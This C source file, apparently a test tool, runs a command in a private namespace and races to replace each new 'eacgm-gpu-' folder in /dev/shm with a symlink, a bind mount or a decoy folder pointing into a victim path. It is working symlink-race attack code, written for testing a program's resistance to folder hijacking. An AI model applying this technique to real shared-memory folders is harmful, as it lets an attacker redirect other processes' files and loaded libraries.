/* shm_swap.c - a user who puts something else in the place of each folder that is made for a
 * process in its /dev/shm, as soon as it is there.
 *
 * usage: shm_swap link|mount|folder FOLDER VICTIM CMD...
 *
 * Runs CMD in a user and mount namespace in which FOLDER, which the user owns, is /dev/shm. Beside
 * it a process looks for new folders all the time. link: each becomes a symbolic link to VICTIM;
 * mount: VICTIM is mounted over it; folder: a folder of the user's own takes its place, in which
 * all names that are expected there are links to files of VICTIM. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#define PREFIX "eacgm-gpu-"
#define SHM    "/dev/shm"
#define BAIT   "bait" /* what takes a folder's place */

static void must(bool holds, const char *what)
{
	if (holds)
		return;
	fprintf(stderr, "shm_swap: %s: %s\n", what, strerror(errno));
	exit(99);
}

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	must(fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text), path);
	close(fd);
}

static void enter_namespaces(const char *folder)
{
	char map[64];
	uid_t uid = getuid();
	gid_t gid = getgid();
	must(!unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare");
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "%u %u 1", uid, uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "%u %u 1", gid, gid);
	write_file("/proc/self/gid_map", map);
	must(!mount(folder, SHM, NULL, MS_BIND, NULL), "mount");
}

static void make_bait(const char *how, const char *victim)
{
	static const char *const names[] = {"session", "ring", "libeacgm_gpu.so"};
	char at[64], to[4200];
	if (!strcmp(how, "link")) {
		must(!symlink(victim, BAIT), BAIT);
		return;
	}
	must(!mkdir(BAIT, 0777) && !chmod(BAIT, 0777), BAIT);
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		snprintf(at, sizeof(at), BAIT "/%s", names[i]);
		snprintf(to, sizeof(to), "%s/%s", victim, names[i]);
		must(!symlink(to, at), at);
	}
}

static void swap(const char *how, const char *victim, const char *name, unsigned number)
{
	char away[32];
	struct stat st;
	if (!strcmp(how, "mount")) {
		mount(victim, name, NULL, MS_BIND, NULL);
		return;
	}
	if (lstat(name, &st) || !S_ISDIR(st.st_mode) ||
	    renameat2(AT_FDCWD, name, AT_FDCWD, BAIT, RENAME_EXCHANGE))
		return;
	snprintf(away, sizeof(away), "away%u", number);
	rename(BAIT, away);
	make_bait(how, victim);
}

static void attack(const char *how, const char *victim)
{
	char done[256] = "";
	DIR *dir = opendir(SHM);
	must(dir && !chdir(SHM), SHM);
	if (strcmp(how, "mount") != 0)
		make_bait(how, victim);
	for (unsigned number = 0;; rewinddir(dir))
		for (const struct dirent *entry; (entry = readdir(dir));)
			if (!strncmp(entry->d_name, PREFIX, strlen(PREFIX)) &&
			    strcmp(entry->d_name, done) != 0) {
				swap(how, victim, entry->d_name, number++);
				snprintf(done, sizeof(done), "%s", entry->d_name);
			}
}

int main(int argc, char **argv)
{
	if (argc < 5)
		return 2;
	enter_namespaces(argv[2]);
	pid_t parent = getpid();
	pid_t pid = fork();
	must(pid >= 0, "fork");
	if (!pid) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (getppid() == parent)
			attack(argv[1], argv[3]);
		return 0;
	}
	execv(argv[4], argv + 4);
	must(false, argv[4]);
}
